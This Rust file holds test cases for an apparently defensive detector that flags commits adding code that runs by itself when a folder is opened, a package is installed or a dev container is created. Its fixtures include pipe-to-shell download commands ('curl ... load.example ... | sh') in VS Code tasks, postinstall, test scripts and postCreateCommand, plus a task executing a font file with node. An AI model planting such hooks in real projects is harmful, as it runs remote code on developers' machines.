//! Histories for `auto-run`.

use crate::testing::AccountInStory as _;
use crate::testing::{At, Case, DAY, Expect, Story, Who, account, own};
use countersign_facts::Account;

const ADA: Who = Who("Ada Example", "7001+adaex@users.noreply.github.com");
const BEA: Who = Who("Bea Sample", "bea@mail.example");

pub(crate) const CASES: &[Case] = &[
    Case {
        name: "a pull request adds a task that loads a program when the folder is opened",
        expect: Expect::Fires,
        story: task,
    },
    Case {
        name: "a commit adds a task that runs a font when the folder is opened",
        expect: Expect::Fires,
        story: font,
    },
    Case {
        name: "an install script that pipes a download into a shell",
        expect: Expect::Fires,
        story: install,
    },
    Case {
        name: "a task that keeps the build fresh when the folder is opened",
        expect: Expect::Fires,
        story: watch,
    },
    Case {
        name: "tasks that somebody starts",
        expect: Expect::Quiet,
        story: started,
    },
    Case {
        name: "ordinary install scripts and hooks",
        expect: Expect::Quiet,
        story: ordinary,
    },
    Case {
        name: "an example of such a task in the documentation's examples",
        expect: Expect::Quiet,
        story: example,
    },
    Case {
        name: "an ordinary pull request",
        expect: Expect::Quiet,
        story: ordinary_pull,
    },
    Case {
        name: "nobody looked at what commits change",
        expect: Expect::Silent,
        story: unlooked,
    },
    Case {
        name: "a robot updates the development container",
        expect: Expect::Silent,
        story: robot,
    },
];

const NOW: At = At::exact(3, 12, 0, 120);
const TASKS: &str = ".vscode/tasks.json";

fn at(day: i64) -> At {
    At::local(day, 10, 0, 120)
}

fn ada() -> Account {
    account(7001, "adaex", at(-900))
}

fn on_opening(command: &str) -> String {
    format!(
        "{{\n  \"tasks\": [\n    {{\n      \"label\": \"env\",\n      \"command\": \"{command}\",\n      \
         \"runOptions\": {{ \"runOn\": \"folderOpen\" }}\n    }}\n  ]\n}}"
    )
}

fn task(story: &mut Story) {
    story.old_repository(BEA);
    let commit = story.add(own(ADA, at(1)));
    story.adds(commit, "src/lib.rs", "pub mod api;");
    story.adds(
        commit,
        TASKS,
        &on_opening("curl -fsSL https://load.example/env | sh"),
    );
    story.pull(ada(), &[commit], &["src/lib.rs", TASKS], NOW);
}

fn font(story: &mut Story) {
    story.every(DAY, 3, BEA, at(-20));
    let commit = story.add(own(ADA, at(1)));
    story.adds(
        commit,
        TASKS,
        &on_opening("node public/fonts/solid-400.woff2"),
    );
}

fn install(story: &mut Story) {
    let commit = story.add(own(ADA, at(1)));
    let script = r#"    "postinstall": "curl -s https://load.example/x | sh","#;
    story.adds(commit, "package.json", script);
}

fn watch(story: &mut Story) {
    let commit = story.add(own(ADA, at(1)));
    story.adds(commit, TASKS, &on_opening("npm run watch"));
}

fn started(story: &mut Story) {
    let commit = story.add(own(ADA, at(1)));
    let tasks = on_opening("curl -O https://load.example/data.csv");
    story.adds(commit, TASKS, &tasks.replace("folderOpen", "default"));
}

fn ordinary(story: &mut Story) {
    let commit = story.add(own(ADA, at(1)));
    story.adds(
        commit,
        "package.json",
        r#"    "prepare": "husky install && npm run build","#,
    );
    story.adds(
        commit,
        ".husky/pre-commit",
        "npx lint-staged\n# curl -s https://load.example",
    );
    story.adds(
        commit,
        "build.rs",
        "Command::new(\"cc\").status().unwrap();",
    );
    story.adds(commit, ".vscode/settings.json", "  \"editor.tabSize\": 2");
}

fn example(story: &mut Story) {
    let commit = story.add(own(ADA, at(1)));
    let path = "examples/editor/.vscode/tasks.json";
    story.adds(
        commit,
        path,
        &on_opening("curl -s https://load.example/x | sh"),
    );
}

fn ordinary_pull(story: &mut Story) {
    story.old_repository(BEA);
    let commit = story.add(own(ADA, at(1)));
    story.adds(
        commit,
        "package.json",
        r#"    "test": "curl -s https://load.example/x | sh","#,
    );
    story.pull(ada(), &[commit], &["package.json"], NOW);
}

fn unlooked(story: &mut Story) {
    story.every(DAY, 3, ADA, at(0));
}

fn robot(story: &mut Story) {
    story.old_repository(BEA);
    let commit = story.add(own(ADA, at(1)));
    let created = r#""postCreateCommand": "curl -fsSL https://load.example/x | sh""#;
    story.adds(commit, ".devcontainer/devcontainer.json", created);
    let path = ".devcontainer/devcontainer.json";
    story.pull(ada().program(), &[commit], &[path], NOW);
}
